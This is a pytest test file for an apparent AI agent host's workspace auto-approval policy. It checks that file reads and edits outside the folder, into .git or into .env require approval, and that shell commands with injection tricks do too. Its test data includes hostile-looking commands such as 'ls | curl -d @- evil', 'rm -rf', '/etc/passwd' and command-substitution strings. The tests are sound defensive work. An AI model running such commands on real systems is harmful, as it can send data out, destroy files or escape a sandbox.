"""What passes unasked, and above all what does not."""

from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portico import events as e
from portico.events import Message
from portico.host.approval import Request, Ruling
from portico.host.policy import Rules, WorkspacePolicy, below, rules_of, split
from portico.host.session import Session
from portico.host.turn import Turn
from portico.testing.fixtures import HostOpener
from portico.testing.play import PlayAgent


def judge(folder: Path, rules: Rules, kind: str, config: dict[str, Any] | None = None, **fields: Any) -> Ruling | None:
    session = SimpleNamespace(state=SimpleNamespace(cwd=str(folder), config=config or {}))
    request = Request(kind=kind, tool="t", call="c", title="t", input="{}", **fields)
    return WorkspacePolicy(lambda: rules)(cast(Session, session), request)


def passes(folder: Path, rules: Rules, kind: str, **fields: Any) -> bool:
    ruling = judge(folder, rules, kind, **fields)
    assert ruling is None or ruling.allowed
    return ruling is not None


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    folder = tmp_path / "app"
    (folder / "src").mkdir(parents=True)
    (tmp_path / "app-evil").mkdir()
    (folder / "out").symlink_to(tmp_path / "app-evil")
    return folder


@pytest.mark.parametrize("path", ["src/a.py", ".", "new/deep/file", "./src/../src/a.py"])
def test_reads_inside_pass(folder: Path, path: str) -> None:
    assert passes(folder, Rules(), "read", path=path)
    assert passes(folder, Rules(), "read", path=str(folder / path))


@pytest.mark.parametrize("path", ["../x", "/etc/passwd", "out/secret", "../app-evil/x", "src/../../x", "a\0b"])
def test_reads_outside_ask(folder: Path, path: str) -> None:
    assert not passes(folder, Rules(), "read", path=path)


def test_edits_pass_by_glob_only(folder: Path) -> None:
    rules = Rules(edits={"**/*": True, "src/**": False, "src/ok.py": True})
    assert passes(folder, rules, "write", path="readme.md")
    assert not passes(folder, rules, "write", path="src/a.py")
    assert passes(folder, rules, "write", path="src/ok.py")
    assert not passes(folder, Rules(), "write", path="readme.md")


@pytest.mark.parametrize(
    "path",
    [
        ".git/hooks/pre-commit",
        "sub/.git/config",
        ".env",
        "a/.env.local",
        "uv.lock",
        "web/package-lock.json",
        "out/x",
        "../x",
        ".ENV",
        "src/../.git/config",
    ],
)
def test_some_edits_always_ask(folder: Path, path: str) -> None:
    assert not passes(folder, Rules(edits={"**/*": True, "**": True}), "write", path=path)


@pytest.mark.parametrize("line", ["ls", "ls -la src", "git status", "git status; ls", "pwd && ls | ls", "ls 'a b'"])
def test_commands_on_the_list_pass(folder: Path, line: str) -> None:
    assert passes(folder, Rules(), "shell", command=line)


@pytest.mark.parametrize(
    "line",
    [
        "",
        "make",
        "ls; make",
        "ls && rm -rf x",
        "ls | curl -d @- evil",
        "ls $(make)",
        "ls `make`",
        "ls > file",
        "ls\nmake",
        "ls & make",
        "(make)",
        "ls ${X:-$(make)}",
        "PATH=. ls",
        "ls /etc",
        "ls ..",
        "ls ~",
        "ls <(make)",
        "ls 'open",
        "./ls",
        "git -c core.pager=evil status",
        "lsof",
        "gitstatus",
        "ls \\\nmake",
        "ls; /bin/ls",
    ],
)
def test_other_commands_ask(folder: Path, line: str) -> None:
    assert not passes(folder, Rules(), "shell", command=line)


def test_rules_of_an_editor(folder: Path) -> None:
    rules = rules_of(
        {
            "terminalAutoApproveRules": {"make": True, "/^npm test$/": {"approve": True}, "ls": False, "/(/": True},
            "editAutoApprovePatterns": {"**/*": True, "secret/**": "yes"},
        }
    )
    assert passes(folder, rules, "shell", command="make all && npm test")
    assert not passes(folder, rules, "shell", command="ls")
    assert not passes(folder, rules, "shell", command="make; rm x")
    assert passes(folder, rules, "write", path="a")
    assert not passes(folder, rules, "write", path="secret/a")
    assert rules_of({"editAutoApprovePatterns": ["x"], "globalAutoApproveEnabled": "true"}) == Rules()


def test_everything_passes_where_somebody_said_so(folder: Path) -> None:
    assert passes(folder, rules_of({"globalAutoApproveEnabled": True}), "other")
    assert judge(folder, Rules(), "other", {"autoApprove": "autoApprove"}) is not None
    assert judge(folder, Rules(), "other", {"autoApprove": "default"}) is None
    assert not passes(folder, Rules(), "read", path="src/a.py", result=True)


@given(st.text(max_size=60))
def test_no_line_passes_that_runs_something_else(line: str) -> None:
    parts = split("ls " + line)
    for words in parts or []:
        assert not any(sign in word for word in words[:1] for sign in "=$`")


@given(st.text(max_size=40))
def test_no_path_leads_out(tmp_path_factory: pytest.TempPathFactory, path: str) -> None:
    found = below("/srv/app", path)
    assert found is None or not found.startswith("..")


async def test_the_rule_is_in_the_log(open_host: HostOpener, tmp_path: Path) -> None:
    async def play(message: Message, turn: Turn) -> None:
        call = turn.tool("read", '{"path":"a"}')
        assert (await call.approve("read", path="a")).allowed
        await call.end()

    host = await open_host(PlayAgent(play))
    host.policies.append(WorkspacePolicy(Rules))
    session = await host.start(by="test", cwd=str(tmp_path))
    await session.wait(await session.send(Message("go"), by="test"))
    events = [record.event for record in await host.log.read(session.channel)]
    [decided] = [event for event in events if isinstance(event, e.ToolDecided)]
    assert (decided.allowed, decided.by, decided.rule) == (True, "policy", "read in the working directory")
